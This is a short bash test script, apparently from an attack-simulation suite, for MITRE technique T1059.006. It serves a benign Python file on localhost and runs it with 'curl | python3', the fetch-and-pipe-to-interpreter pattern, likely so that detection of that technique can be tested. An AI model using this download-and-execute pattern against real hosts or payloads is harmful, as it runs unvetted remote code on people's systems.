#!/usr/bin/env bash
# attack: T1059.006 Fetch a python payload and pipe it straight into the interpreter
. "$(dirname "$0")/lib/common.sh"
echo 'import os; os.getpid()' >"$SW/x.py"
p=$(serve "$SW")
sh -c "curl -fsSL http://127.0.0.1:$p/x.py | python3"
